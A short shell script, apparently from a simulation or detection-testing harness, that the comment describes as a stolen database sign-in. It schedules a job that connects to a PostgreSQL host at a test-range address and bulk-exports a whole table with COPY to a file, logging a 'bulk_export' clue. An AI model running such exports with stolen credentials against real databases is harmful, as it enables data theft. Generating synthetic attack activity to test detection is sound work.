# A stolen sign-in of the database: a table leaves by COPY.

copy_out_calendar()
{
	echo "$(at 3 02:20) copy_out_all"
}

copy_out_all()
{
	session_open postgresql lecture 198.18.248.201
	note_clue bulk_export
	PGOPTIONS= psql_from 198.18.248.201 lecture 'COPY (SELECT * FROM taj.summary) TO STDOUT' >"$ACT/rows"
	row rows taj "$(wc -l <"$ACT/rows")"
	session_close
}
